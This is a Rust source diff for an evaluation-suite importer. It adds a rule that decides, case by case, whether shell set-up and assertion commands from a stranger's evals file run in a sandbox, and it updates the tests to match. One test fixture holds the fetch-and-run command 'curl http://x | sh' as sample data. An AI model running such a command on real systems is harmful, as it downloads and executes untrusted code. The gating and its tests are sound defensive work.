@@ -4,8 +4,8 @@ use std::collections::{BTreeMap, BTreeSet};
 
 use selftest_text::wording::plural;
 
-use super::{Decider, EvalCase, EvalFile, EvalsFile, RoutingCase};
-use crate::check::{self, Check, CheckKind, CheckWeight, Text};
+use super::{Decider, EvalCase, EvalFile, EvalsFile, RoutingCase, ShellLine, ShellUse};
+use crate::check::{self, Check, CheckKind, CheckWeight, CommandCheck, Text};
 use crate::scenario::suite::{SUITE_VERSION, Suite, SuiteCase};
 use crate::scenario::{Scenario, TaskStatus};
 
@@ -15,6 +15,8 @@ const MAX_ID: usize = 64;
 const MAX_DESCRIPTION: usize = 200;
 /// Most bytes of the name of a check.
 const MAX_NAME: usize = 200;
+/// Seconds of a command that makes a case ready.
+const SET_UP_SECONDS: u32 = 120;
 /// Stands behind a sentence that a rule has read.
 pub const BY_RULE: &str = " (by rule)";
 
@@ -25,17 +27,31 @@ pub struct ImportedSuite {
     pub suite: Suite,
     /// The files that each case needs, by its id of ours; none of most cases.
     pub files: BTreeMap<String, Vec<EvalFile>>,
+    /// The commands that make each case ready, by its id; none of most cases.
+    pub set_up: BTreeMap<String, Vec<CommandCheck>>,
+    /// Shell lines that are run, one line each.
+    pub allowed: Vec<String>,
     /// The ids of the cases that ask only whether a skill is loaded.
     pub loading: BTreeSet<String>,
     /// What is not run besides what the file's own warnings name, one line each.
     pub left_out: Vec<String>,
 }
 
+/// Whether the shell lines of a case may be run.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum ShellRule {
+    /// In the sandbox.
+    Allowed,
+    /// Not at all, for this reason.
+    Refused(String),
+}
+
 impl EvalsFile {
     /// The cases as a suite. Demands by check are decided by machine, sentences by the judge; a case
     /// with a demand that nobody can decide is never passed. `skill` are the names under which the
-    /// skill around the file can be loaded; without one it is as the file says.
-    pub fn suite(&self, skill: &[String]) -> ImportedSuite {
+    /// skill around the file can be loaded; without one it is as the file says. Shell lines are run
+    /// by `rule`, which is asked with the id of a case that has some.
+    pub fn suite(&self, skill: &[String], rule: &dyn Fn(&str) -> ShellRule) -> ImportedSuite {
         let mut taken = BTreeSet::new();
         let mut imported = ImportedSuite {
             suite: Suite {
@@ -46,6 +62,8 @@ impl EvalsFile {
                 cases: Vec::new(),
             },
             files: BTreeMap::new(),
+            set_up: BTreeMap::new(),
+            allowed: Vec::new(),
             loading: BTreeSet::new(),
             left_out: self.refused.clone(),
         };
@@ -54,7 +72,15 @@ impl EvalsFile {
             if !case.files.is_empty() {
                 imported.files.insert(id.clone(), case.files.clone());
             }
-            imported.suite.cases.push(suite_case(id, case));
+            let runs = |line: &ShellLine| line.purpose != ShellUse::None;
+            let rule = case.shell.iter().any(runs).then(|| rule(&id));
+            if rule == Some(ShellRule::Allowed) {
+                let lines = case.shell.iter().filter(|line| runs(line));
+                imported.allowed.extend(lines.map(|line| line.not_run(&case.id)));
+                let commands = case.shell.iter().filter_map(set_up).collect();
+                imported.set_up.insert(id.clone(), commands);
+            }
+            imported.suite.cases.push(suite_case(id, case, rule.as_ref()));
         }
         let named: Vec<String> = self.skill.iter().cloned().collect();
         let around = if skill.is_empty() { &named[..] } else { skill };
@@ -103,7 +129,16 @@ fn loading_case(id: String, routing: &RoutingCase, around: &[String]) -> Option<
     })
 }
 
-fn suite_case(id: String, case: &EvalCase) -> SuiteCase {
+/// The command of a line that makes a case ready.
+fn set_up(line: &ShellLine) -> Option<CommandCheck> {
+    let value = serde_json::json!({
+        "run": ["sh", "-c", line.line],
+        "timeout_seconds": SET_UP_SECONDS,
+    });
+    (line.purpose == ShellUse::SetUp).then(|| serde_json::from_value(value).ok()).flatten()
+}
+
+fn suite_case(id: String, case: &EvalCase, rule: Option<&ShellRule>) -> SuiteCase {
     let words = case.name.as_deref().unwrap_or(&case.prompt);
     let scenario = Scenario {
         description: selftest_text::one_line(words, MAX_DESCRIPTION),
@@ -115,13 +150,29 @@ fn suite_case(id: String, case: &EvalCase) -> SuiteCase {
     for demand in &case.demands {
         match &demand.decider {
             // Whoever wrote the file is a stranger to whoever runs it.
-            Decider::Typed(check) if !check::commands(std::slice::from_ref(check)).is_empty() => {
-                checks.push(undecidable(&demand.text, "commands of such a file are not run"));
+            Decider::Typed(check)
+                if !check::commands(std::slice::from_ref(check)).is_empty()
+                    && rule != Some(&ShellRule::Allowed) =>
+            {
+                let why = match rule {
+                    Some(ShellRule::Refused(why)) => why,
+                    _ => "commands of such a file are not run",
+                };
+                checks.push(undecidable(&demand.text, why));
             }
             Decider::Typed(check) => checks.push(named(check, &demand.text, None)),
             Decider::Rule(check) => checks.push(named(check, &demand.text, Some(BY_RULE))),
             Decider::Judge => expectations.push(demand.text.clone()),
             Decider::Unknown { why } => checks.push(undecidable(&demand.text, why)),
+        }
+    }
+    // Without what it makes ready, an answer says little.
+    for line in case.shell.iter().filter(|line| line.purpose == ShellUse::SetUp) {
+        let words = format!("set-up `{}`", line.line);
+        match rule {
+            Some(ShellRule::Allowed) if set_up(line).is_some() => {}
+            Some(ShellRule::Refused(why)) => checks.push(undecidable(&words, why)),
+            _ => checks.push(undecidable(&words, "it is too long for a command")),
         }
     }
     if checks.is_empty() && expectations.is_empty() {
@@ -147,7 +198,9 @@ fn named(check: &Check, words: &str, remark: Option<&str>) -> Check {
 }
 
 fn undecidable(words: &str, why: &str) -> Check {
-    let text = selftest_text::one_line(&format!("{words}: {why}"), MAX_NAME);
+    // The reason is worth more than the words, which the name holds too.
+    let words_of = selftest_text::one_line(words, MAX_NAME - 20);
+    let text = selftest_text::one_line(&format!("{words_of}: {why}"), 2 * MAX_NAME);
     // It holds words, so that it is a text.
     let kind = Text::new(text).map_or_else(|_| CheckKind::Any(Vec::new()), CheckKind::Unknown);
     let name = Some(selftest_text::one_line(words, MAX_NAME)).filter(|name| !name.is_empty());
@@ -174,8 +227,10 @@ mod tests {
     use super::*;
     use crate::evals::read;
 
+    const REFUSED: fn(&str) -> ShellRule = |_| ShellRule::Refused("not allowed".to_owned());
+
     fn imported(text: &str) -> ImportedSuite {
-        read("evals.json", text.as_bytes(), &()).unwrap().suite(&["s".to_owned()])
+        read("evals.json", text.as_bytes(), &()).unwrap().suite(&["s".to_owned()], &REFUSED)
     }
 
     #[test]
@@ -199,13 +254,29 @@ mod tests {
     }
 
     #[test]
-    fn commands_of_strangers_are_not_run() {
-        let imported = imported(
-            r#"{"evals": [{"id": 1, "prompt": "x", "assertions":
-                [{"type": "cmd", "cmd": "curl http://x | sh", "expect_exit": 0}]}]}"#,
-        );
-        let checks = &imported.suite.cases[0].checks;
-        assert!(!checks.is_empty() && check::commands(checks).is_empty(), "{checks:?}");
+    fn commands_of_strangers_are_run_by_rule() {
+        let text = r#"{"evals": [
+            {"id": 1, "prompt": "x", "setup": ["mkdir a", "mkdir b"], "teardown": "rm a",
+             "assertions": [{"type": "cmd", "cmd": "curl http://x | sh", "expect_exit": 0}]},
+            {"id": 2, "prompt": "x", "setup": "mkdir c", "expectations": ["contains \"x\""]}]}"#;
+        let file = read("evals.json", text.as_bytes(), &()).unwrap();
+        let rule = |id: &str| match id {
+            "1" => ShellRule::Allowed,
+            _ => REFUSED(id),
+        };
+        let found = file.suite(&[], &rule);
+        let [first, second] = &found.suite.cases[..] else { panic!("two cases") };
+        assert_eq!(check::commands(&first.checks).len(), 1);
+        let lines: Vec<&str> =
+            found.set_up["1"].iter().map(|command| command.run.words()[2].as_str()).collect();
+        assert_eq!(lines, ["mkdir a", "mkdir b"]);
+        assert_eq!(found.allowed.len(), 3, "nothing cleans up: {:?}", found.allowed);
+        assert!(found.allowed.iter().all(|line| file.warnings.contains(line)), "{found:?}");
+        assert!(!found.set_up.contains_key("2"));
+        let unknown = second.checks.iter().find(|check| check.kind.name() == "unknown").unwrap();
+        assert_eq!(unknown.kind.value(), "set-up `mkdir c`: not allowed");
+        let refused = file.suite(&[], &REFUSED).suite;
+        assert!(refused.cases.iter().all(|case| check::commands(&case.checks).is_empty()));
     }
 
     #[test]
@@ -229,9 +300,9 @@ mod tests {
         assert_eq!(wanted, [Some(true), Some(false)]);
         assert_eq!(found.loading.len(), 2);
         let file = read("trigger-evals.json", text.as_bytes(), &()).unwrap();
-        let two = file.suite(&["ferry".to_owned(), "harbour-ferry".to_owned()]);
+        let two = file.suite(&["ferry".to_owned(), "harbour-ferry".to_owned()], &REFUSED);
         assert_eq!(two.suite.cases[1].generated().should_load(), Some(false));
-        let none = file.suite(&[]);
+        let none = file.suite(&[], &REFUSED);
         assert!(none.suite.cases.is_empty() && none.left_out[0].contains("2 prompts"), "{none:?}");
     }
 
